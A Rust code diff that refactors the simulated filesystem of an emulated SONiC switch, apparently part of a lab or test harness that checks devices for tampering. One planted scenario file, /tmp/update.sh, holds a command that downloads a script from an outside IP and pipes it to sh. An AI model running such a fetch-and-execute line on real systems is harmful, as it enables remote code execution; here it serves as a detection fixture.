@@ -5,6 +5,7 @@
 //! builds unsafe command lines fails loudly in tests instead of working by accident.
 
 use super::Reply;
+use super::disk::{Disk, FileScenarios, Node, What};
 use crate::lab::device::{DeviceCore, Flags, Snapshot};
 use crate::lab::vfs::{HashAlgo, Vfs, VfsFile};
 
@@ -73,44 +74,86 @@ fn config_db(hostname: &str, changed: bool) -> String {
     )
 }
 
+/// The tree `find` walks: the system directories, where a SONiC box stages tools and keeps logs, and
+/// what each file scenario puts there.
+const DISK: Disk = Disk {
+    running: Some((RUNNING_IMAGE, MTIME_IMAGE)),
+    next: Some((HOTFIX_IMAGE, MTIME_ETC)),
+    fixed: &[
+        Node::dir("/", MTIME_ETC),
+        Node::dir("/etc", MTIME_ETC),
+        Node::dir("/etc/sonic", MTIME_ETC),
+        Node::dir("/host", MTIME_ETC),
+        Node::dir("/host/grub", MTIME_ETC),
+        Node::dir("/host/image-202311.1", MTIME_ETC),
+        Node::dir("/proc", MTIME_ETC),
+        Node::dir("/boot", MTIME_ETC),
+        Node::dir("/home", MTIME_ETC),
+        Node::dir("/home/admin", MTIME_ETC),
+        Node::dir("/root", MTIME_ETC),
+        Node::dir("/var", MTIME_ETC),
+        Node::dir("/var/log", MTIME_ETC),
+        Node::dir("/usr", MTIME_ETC),
+        Node::dir("/usr/local", MTIME_ETC),
+        Node::dir("/usr/local/bin", MTIME_ETC),
+        Node::new("/tmp", What::Sticky, MTIME_ETC),
+        Node::new("/var/tmp", What::Sticky, MTIME_ETC),
+        Node::text("/boot/vmlinuz-6.1.0-11-2-amd64", "MZ\0\0", MTIME_IMAGE),
+        Node::text(
+            "/boot/config-6.1.0-11-2-amd64",
+            "CONFIG_64BIT=y\n",
+            MTIME_IMAGE,
+        ),
+        Node::text("/home/admin/.bashrc", "# ~/.bashrc\n", MTIME_ETC),
+        Node::text("/root/.bashrc", "# ~/.bashrc\n", MTIME_ETC),
+        Node::exec(
+            "/usr/local/bin/sonic-cfggen",
+            "#!/usr/bin/python3\n",
+            MTIME_IMAGE,
+        ),
+        Node::text(
+            "/var/log/syslog",
+            "Nov 14 22:13:20 lab sonic: started\n",
+            MTIME_ETC,
+        ),
+        Node::new(
+            "/etc/localtime",
+            What::Link("/usr/share/zoneinfo/Etc/UTC"),
+            MTIME_IMAGE,
+        ),
+        Node::dir("/etc/ssh", MTIME_ETC),
+        Node::text("/etc/ssh/sshd_config", "PermitRootLogin no\n", MTIME_ETC),
+        Node::text("/etc/os-release", OS_RELEASE, MTIME_ETC),
+        Node::text("/proc/cmdline", CMDLINE, MTIME_ETC),
+    ],
+    config: None,
+    scenarios: Some(FileScenarios {
+        at: MTIME_ETC + 9000,
+        tool: (
+            "/tmp/update.sh",
+            What::Exec("#!/bin/sh\ncurl -s http://203.0.113.66/x | sh\n"),
+        ),
+        dd_image: Some("/backup/system_image.img"),
+        alt_image: Some("/host/image-202305.1/fs.squashfs"),
+        new_log: (
+            "/var/log/syslog.1",
+            "Nov 15 00:00:01 lab rsyslogd: rotated\n",
+        ),
+        maintenance: ("/etc/sonic/acl-CHG1234.json", "{\"ACL_TABLE\": {}}\n"),
+    }),
+};
+
 pub(crate) fn build_vfs(core: &DeviceCore, flags: &Flags) -> Vfs {
-    let mut v = Vfs::new();
-    for d in [
-        "/",
-        "/etc",
-        "/etc/sonic",
-        "/host",
-        "/host/grub",
-        "/host/image-202311.1",
-        "/proc",
-    ] {
-        v.insert(d, VfsFile::dir(MTIME_ETC));
-    }
-    let image = if flags.patched {
-        core.patched_image.clone()
-    } else {
-        core.clean_image.clone()
-    };
-    v.insert(RUNNING_IMAGE, VfsFile::image(image, MTIME_IMAGE));
-    if flags.boot_changed {
-        v.insert("/host/image-202311.1-hotfix", VfsFile::dir(MTIME_ETC));
-        v.insert(
-            HOTFIX_IMAGE,
-            VfsFile::image(core.alt_image.clone(), MTIME_ETC),
-        );
-    }
-    files_for_manifest(&mut v, core, flags);
+    let mut v = DISK.build(core, flags);
     let serial = &core.serials[usize::from(flags.serial_changed)];
     v.insert(
         "/etc/hostname",
         VfsFile::bytes(format!("{}\n", core.name), MTIME_ETC),
     );
-    v.insert("/etc/os-release", VfsFile::bytes(OS_RELEASE, MTIME_ETC));
     v.insert(
         "/etc/machine-id",
         VfsFile::bytes(format!("{serial}\n"), MTIME_ETC),
     );
-    v.insert("/proc/cmdline", VfsFile::bytes(CMDLINE, MTIME_ETC));
     v.insert(
         "/host/grub/grub.cfg",
         VfsFile::bytes(grub_cfg(flags.boot_changed), MTIME_ETC),
@@ -120,94 +163,6 @@ pub(crate) fn build_vfs(core: &DeviceCore, flags: &Flags) -> Vfs {
         VfsFile::bytes(config_db(&core.name, flags.config_changed), MTIME_ETC),
     );
     v
-}
-
-/// The rest of the tree `find` walks: what a SONiC box has where tools are staged and logs are kept,
-/// and what each file scenario puts there.
-fn files_for_manifest(v: &mut Vfs, core: &DeviceCore, flags: &Flags) {
-    for d in [
-        "/boot",
-        "/home",
-        "/home/admin",
-        "/root",
-        "/var",
-        "/var/log",
-        "/usr",
-        "/usr/local",
-        "/usr/local/bin",
-    ] {
-        v.insert(d, VfsFile::dir(MTIME_ETC));
-    }
-    for d in ["/tmp", "/var/tmp"] {
-        v.insert(d, VfsFile::dir(MTIME_ETC).with_mode(0o1777));
-    }
-    v.insert(
-        "/boot/vmlinuz-6.1.0-11-2-amd64",
-        VfsFile::bytes(vec![0x4d, 0x5a, 0, 0], MTIME_IMAGE),
-    );
-    v.insert(
-        "/boot/config-6.1.0-11-2-amd64",
-        VfsFile::bytes("CONFIG_64BIT=y\n", MTIME_IMAGE),
-    );
-    v.insert(
-        "/home/admin/.bashrc",
-        VfsFile::bytes("# ~/.bashrc\n", MTIME_ETC),
-    );
-    v.insert("/root/.bashrc", VfsFile::bytes("# ~/.bashrc\n", MTIME_ETC));
-    v.insert(
-        "/usr/local/bin/sonic-cfggen",
-        VfsFile::bytes("#!/usr/bin/python3\n", MTIME_IMAGE).with_mode(0o755),
-    );
-    v.insert(
-        "/var/log/syslog",
-        VfsFile::bytes("Nov 14 22:13:20 lab sonic: started\n", MTIME_ETC),
-    );
-    v.insert(
-        "/etc/localtime",
-        VfsFile::symlink("/usr/share/zoneinfo/Etc/UTC", MTIME_IMAGE),
-    );
-    v.insert("/etc/ssh", VfsFile::dir(MTIME_ETC));
-    v.insert(
-        "/etc/ssh/sshd_config",
-        VfsFile::bytes("PermitRootLogin no\n", MTIME_ETC),
-    );
-    if flags.tool_copied {
-        v.insert(
-            "/tmp/update.sh",
-            VfsFile::bytes(
-                "#!/bin/sh\ncurl -s http://203.0.113.66/x | sh\n",
-                MTIME_ETC + 9000,
-            )
-            .with_mode(0o755),
-        );
-        super::common::flood_beside(v, "/tmp/update.sh", flags, MTIME_ETC + 9000);
-    }
-    if flags.dd_image {
-        v.insert("/backup", VfsFile::dir(MTIME_ETC + 9000));
-        v.insert(
-            "/backup/system_image.img",
-            VfsFile::image(core.alt_image.clone(), MTIME_ETC + 9000),
-        );
-    }
-    if flags.snapshot_created {
-        v.insert("/host/image-202305.1", VfsFile::dir(MTIME_ETC + 9000));
-        v.insert(
-            "/host/image-202305.1/fs.squashfs",
-            VfsFile::image(core.alt_image.clone(), MTIME_ETC + 9000),
-        );
-    }
-    if flags.new_log {
-        v.insert(
-            "/var/log/syslog.1",
-            VfsFile::bytes("Nov 15 00:00:01 lab rsyslogd: rotated\n", MTIME_ETC + 9000),
-        );
-    }
-    if flags.maintenance {
-        v.insert(
-            "/etc/sonic/acl-CHG1234.json",
-            VfsFile::bytes("{\"ACL_TABLE\": {}}\n", MTIME_ETC + 9000),
-        );
-    }
 }
 
 /// `find START... -xdev -maxdepth N -printf FORMAT`, with only the format the linux profile sends.
@@ -236,23 +191,7 @@ fn find(snap: &Snapshot, args: &[String]) -> Reply {
     };
     let mut out = Vec::new();
     let mut err = String::new();
-    let mut record = |path: &str, f: &VfsFile| {
-        let kind = match &f.data {
-            crate::lab::vfs::FileData::Dir => 'd',
-            crate::lab::vfs::FileData::Symlink(_) => 'l',
-            _ => 'f',
-        };
-        out.extend_from_slice(
-            format!("{kind} {:o} {} {}.0000000000", f.mode, f.len(), f.mtime).as_bytes(),
-        );
-        out.push(0);
-        out.extend_from_slice(path.as_bytes());
-        out.push(0);
-        if let crate::lab::vfs::FileData::Symlink(t) = &f.data {
-            out.extend_from_slice(t.as_bytes());
-        }
-        out.push(0);
-    };
+    let mut record = |path: &str, f: &VfsFile| super::listing::find_record(&mut out, path, f);
     for start in starts {
         let Some(f) = snap.vfs.get(start) else {
             err.push_str(&format!("find: '{start}': No such file or directory\n"));
